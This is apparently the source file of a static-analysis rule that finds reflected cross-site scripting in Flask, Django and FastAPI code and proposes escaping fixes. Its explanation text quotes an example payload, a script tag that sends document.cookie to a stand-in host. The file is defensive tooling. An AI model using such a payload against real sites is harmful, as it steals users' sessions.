"""PY-XSS-001 reflected-xss-html-from-input: request data written into an HTML response unescaped.

**What it finds.** Request data (query, form, JSON, headers, cookies, URL
segments) that reaches an HTML response without escaping:

* returned from a Flask route as a string (Flask serves `str` results as
  `text/html`), or from a FastAPI/Starlette route declared with
  `response_class=HTMLResponse`, directly or as part of a string built with
  an f-string, `%`, `+`, `.format()`; also through `make_response(...)` /
  `Response(...)` without a non-HTML `mimetype`;
* Django's `HttpResponse(...)` (HTML by default), FastAPI/Starlette's
  `HTMLResponse(...)`;
* `Markup(...)` / `markupsafe.Markup(...)` / Django's `mark_safe(...)` /
  `SafeString(...)` of input, which tells the template engine "already safe";
* `|safe` in a `render_template_string` template applied to a variable bound
  to input.

**Not reported.** Values passed through `escape()` / `html.escape()` /
`bleach.clean()`, numbers, allow-listed values, JSON responses (`jsonify`,
dicts, FastAPI's default), `Response(..., mimetype="text/plain")`, templates
rendered with autoescaping, values of unknown origin, and test code (test
functions, modules importing pytest or unittest), whose apps echo input on
purpose to check routing.

**Fix.** "Escape the input" wraps each input value in `escape()`
(`markupsafe.escape` for Flask, `django.utils.html.escape` for Django,
`html.escape` otherwise) and `Markup(x)` becomes `escape(x)`; for `|safe` the
filter is removed. Text without `& < > " '` renders exactly as before; markup
in the input is shown as text instead of being run.
"""

from __future__ import annotations

import re
from typing import Iterator

from tree_sitter import Node

from ....common.names import last_parts
from ....context import AnalysisContext, share_unit_queries
from ....model import Confidence, Edit, Finding, Fix, Severity
from ....python.arguments import argument_value
from ....python.dataflow import (
    built_string_of,
    enclosing_function,
    reaching_definitions,
)
from ....python.frameworks import web_framework
from ....python.names import calls_named, qualified_name
from ....python.sensitive import in_test_code
from ....python.strings import literal_value, unwrap_parens
from ....python.taint import is_route_handler, route_decorators, taint_of, unsafe_holes
from ....python.taint_specs import HTML, REQUEST
from ....python.wrapping import wrap, wrap_holes
from ...base import Explanation, Rule, register

MARKUP = frozenset({"markupsafe.Markup", "flask.Markup", "jinja2.Markup", "django.utils.safestring.mark_safe", "django.utils.safestring.SafeString"})
HTML_RESPONSES = frozenset(
    {
        "flask.make_response", "flask.Response", "werkzeug.wrappers.Response", "django.http.HttpResponse",
        "fastapi.responses.HTMLResponse", "starlette.responses.HTMLResponse", "django.http.response.HttpResponse",
    }
)
RENDER_STRING = frozenset({"flask.render_template_string"})
_LAST_NAMES = last_parts(MARKUP, HTML_RESPONSES, RENDER_STRING)
"""The last part of the name of every call `_findings` looks at."""
_TEXT_METHODS = frozenset({"get", "strip", "lower", "upper", "title", "capitalize", "replace", "format", "join", "decode", "lstrip", "rstrip"})
_SAFE_FILTER = re.compile(r"\{\{\s*(\w+)\s*\|\s*safe\s*\}\}")
_REQUEST_ONLY = frozenset({REQUEST})
_MIXED_TEXT = frozenset({"binary_operator", "string", "concatenated_string", "conditional_expression", "boolean_operator"})
_RETURNS = "(return_statement) @ret"
share_unit_queries("python", _RETURNS)

def _declares_html_response(ctx: AnalysisContext, function: Node) -> bool:
    """`@app.get("/x", response_class=HTMLResponse)`."""
    for decorator in route_decorators(ctx, function):
        value = argument_value(ctx, decorator, "response_class")
        if value is not None and (qualified_name(ctx, value) or "").split(".")[-1] == "HTMLResponse":
            return True
    return False


ESCAPERS = {
    "flask": ("escape", "from markupsafe import escape"),
    "django": ("escape", "from django.utils.html import escape"),
}
DEFAULT_ESCAPER = ("escape", "from html import escape")


@register
class ReflectedXss(Rule):
    id = "PY-XSS-001"
    name = "reflected-xss-html-from-input"
    cwe = 79
    owasp = "A03:2021"
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    languages = ("python",)
    fix_title = "Escape the input"
    # Calls: the last part of a MARKUP / HTML_RESPONSES / RENDER_STRING name.
    # Flask returns: the function must carry an `@...route/get/post(...)`
    # decorator (`is_route_handler`; a Django view is never a Flask handler, as
    # `web_framework` says "django" first), and a decorator begins with `@`.
    triggers = tuple(sorted({"@"} | last_parts(MARKUP, HTML_RESPONSES, RENDER_STRING)))
    summary = "Request data written into an HTML response, Markup() or |safe without escaping"
    explanation = Explanation(
        what="Text from the request is placed into HTML that the browser renders, without HTML escaping.",
        why=(
            "With normal names and search terms the page looks right. But the browser cannot tell the inserted "
            "text from the page's own markup: input containing a `<script>` tag or an event handler runs as the "
            "site's own JavaScript in the victim's browser, with their session."
        ),
        hostile_input="`/hello?name=<script>fetch('https://evil.example/?c='+document.cookie)</script>` sent as a link steals the session of whoever opens it.",
        fix=(
            "Render through a template with autoescaping, or escape each value: `f\"<h1>Hello {escape(name)}</h1>\"` "
            "with `from markupsafe import escape`. Never wrap input in `Markup()`/`mark_safe()` or mark it `|safe`."
        ),
    )

    def check(self, ctx: AnalysisContext) -> Iterator[Finding]:
        for finding in self._findings(ctx):
            if not in_test_code(ctx, ctx.tree.root_node.descendant_for_byte_range(finding.start_byte, finding.end_byte)):
                yield finding

    def _findings(self, ctx: AnalysisContext) -> Iterator[Finding]:
        seen: set[int] = set()
        for call, name in calls_named(ctx, _LAST_NAMES):
            finding = None
            if name in MARKUP:
                finding = self._check_body(ctx, call, argument_value(ctx, call, "s", position=0) or argument_value(ctx, call, "base", position=0), markup=True)
            elif name in HTML_RESPONSES and self._html_response(ctx, call, name):
                finding = self._check_body(ctx, call, argument_value(ctx, call, "content", position=0) or argument_value(ctx, call, "response", position=0))
            elif name in RENDER_STRING:
                finding = self._check_safe_filter(ctx, call)
            if finding is not None:
                seen.add(call.id)
                yield finding
        flask = web_framework(ctx) == "flask"
        if flask or b"HTMLResponse" in ctx.source[ctx.unit.start_byte : ctx.unit.end_byte]:
            for ret in ctx.captures(_RETURNS).get("ret", []):
                finding = self._check_route_return(ctx, ret, flask)
                if finding is not None:
                    yield finding

    # -- sinks -------------------------------------------------------------------
    @staticmethod
    def _html_response(ctx: AnalysisContext, call: Node, name: str) -> bool:
        for keyword in ("mimetype", "content_type", "media_type"):
            value = argument_value(ctx, call, keyword)
            if value is not None:
                text = literal_value(ctx, value)
                return text is not None and "html" in text
        return True

    def _check_route_return(self, ctx: AnalysisContext, ret: Node, flask: bool) -> Finding | None:
        """A string a route returns: Flask serves it as text/html, FastAPI
        and Starlette when the route declares `response_class=HTMLResponse`."""
        function = enclosing_function(ret)
        if function is None or function.type != "function_definition" or not is_route_handler(ctx, function):
            return None
        if not flask and not _declares_html_response(ctx, function):
            return None
        value = unwrap_parens(ret.named_children[0]) if ret.named_children else None
        if value is not None and value.type in ("tuple", "expression_list") and value.named_children:
            value = unwrap_parens(value.named_children[0])
        if value is None or value.type == "call":
            if value is None or value.child_by_field_name("function") is None or ctx.text(value.child_by_field_name("function")).split(".")[-1] not in _TEXT_METHODS:
                return None
        return self._check_body(ctx, ret, value)

    def _check_safe_filter(self, ctx: AnalysisContext, call: Node) -> Finding | None:
        template = argument_value(ctx, call, "source", position=0)
        text = literal_value(ctx, template) if template is not None else None
        if not text:
            return None
        for match in _SAFE_FILTER.finditer(text):
            value = argument_value(ctx, call, match.group(1))
            taint = taint_of(ctx, value, sink=HTML, kinds=_REQUEST_ONLY) if value is not None else None
            if taint is None:
                continue
            fix = None
            raw = ctx.text(template)
            if raw.count(match.group(0)) == 1:
                start = template.start_byte + len(raw[: raw.index(match.group(0))].encode())
                replacement = "{{ " + match.group(1) + " }}"
                fix = Fix("Remove |safe", (Edit(start, start + len(match.group(0).encode()), replacement),))
            message = f"XSS: `{match.group(1)}` from {taint.source} (line {taint.line}) is marked |safe, so autoescaping is off for it"
            return self.finding(ctx, call, message, fixes=(fix,) if fix else ())
        return None

    # -- detection ------------------------------------------------------------------
    def _check_body(self, ctx: AnalysisContext, anchor: Node, body: Node | None, markup: bool = False) -> Finding | None:
        body = unwrap_parens(body)
        if body is None:
            return None
        built, _definition = built_string_of(ctx, body)
        escape_name, escape_import = ESCAPERS.get(web_framework(ctx) or "", DEFAULT_ESCAPER)
        if built is not None:
            holes = [h for h in unsafe_holes(ctx, built, HTML) if taint_of(ctx, h, sink=HTML, kinds=_REQUEST_ONLY) is not None]
            if not holes:
                return None
            taint = taint_of(ctx, holes[0], sink=HTML, kinds=_REQUEST_ONLY)
            fix = None
            if built.method == "concat" and escape_import.startswith("from markupsafe"):
                # str + Markup escapes the str too: concatenation needs a plain-str escaper
                escape_name, escape_import = "html.escape", "import html"
            edits = wrap_holes(built, holes, escape_name)
            if edits is not None:
                fix = Fix("Escape the input", tuple(edits), (escape_import,))
        else:
            if not self._is_text(ctx, body):
                return None
            taint = taint_of(ctx, body, sink=HTML, kinds=_REQUEST_ONLY)
            if taint is None:
                return None
            if markup:
                function = anchor.child_by_field_name("function")
                edits = [Edit(function.start_byte, function.end_byte, escape_name)]
            else:
                edits = self._escape_edits(ctx, body, escape_name)
            fix = Fix("Escape the input", tuple(edits), (escape_import,)) if edits else None
        where = "marked safe with " + ctx.text(anchor.child_by_field_name("function")) + "()" if markup else "written into an HTML response"
        message = f"XSS: input from {taint.source} (line {taint.line}) is {where} without escaping"
        return self.finding(ctx, anchor, message, fixes=(fix,) if fix else ())

    def _escape_edits(self, ctx: AnalysisContext, body: Node, escape_name: str, depth: int = 0) -> list[Edit] | None:
        """Escape the input where it enters the text. Escaping the whole body is
        right when the body *is* the input (or the input with `.strip()` and
        the like applied); when a method of other text puts the input in
        (`page.replace("{{name}}", name)` on an HTML page read from a file),
        only the input arguments are escaped, so the page's own markup stays
        markup. None when the value has several possible definitions."""
        node = unwrap_parens(body)
        if node is None:
            return None
        if node.type == "identifier" and depth < 4:
            definitions = reaching_definitions(ctx, node)
            if len(definitions) == 1 and definitions[0].kind == "assign" and definitions[0].value is not None:
                value = unwrap_parens(definitions[0].value)
                if value is not None and self._inserts_input(ctx, value):
                    return self._escape_edits(ctx, value, escape_name, depth + 1)
            elif len(definitions) > 1 and any(d.value is not None and self._inserts_input(ctx, unwrap_parens(d.value)) for d in definitions):
                return None
        if self._inserts_input(ctx, node):
            arguments = node.child_by_field_name("arguments")
            tainted = [
                a for a in (arguments.named_children if arguments is not None else ())
                if a.type not in ("keyword_argument", "comment") and taint_of(ctx, a, sink=HTML, kinds=_REQUEST_ONLY) is not None
            ]
            return [edit for argument in tainted for edit in wrap(argument, escape_name)] or None
        if node.type in _MIXED_TEXT:
            return None  # the page's own markup and the input in one expression: escaping it all shows the markup as text
        return wrap(body, escape_name)

    @staticmethod
    def _inserts_input(ctx: AnalysisContext, node: Node | None) -> bool:
        """`template.replace("{{name}}", name)`: a method of text that is not
        input, carrying input in its arguments."""
        if node is None or node.type != "call":
            return False
        function = node.child_by_field_name("function")
        if function is None or function.type != "attribute":
            return False
        return taint_of(ctx, function.child_by_field_name("object"), sink=HTML, kinds=_REQUEST_ONLY) is None

    def _is_text(self, ctx: AnalysisContext, node: Node, depth: int = 0) -> bool:
        """Plainly a string: request values, string methods, names bound to them."""
        node = unwrap_parens(node)
        if node is None or depth > 6:
            return False
        if node.type in ("subscript", "attribute", "string", "concatenated_string", "binary_operator"):
            return True
        if node.type == "call":
            function = node.child_by_field_name("function")
            return function is not None and function.type == "attribute" and ctx.text(function.child_by_field_name("attribute")) in _TEXT_METHODS
        if node.type == "identifier":
            defs = reaching_definitions(ctx, node)
            return bool(defs) and all(d.value is not None and self._is_text(ctx, d.value, depth + 1) for d in defs) or any(
                d.kind == "param" for d in defs
            )
        return False
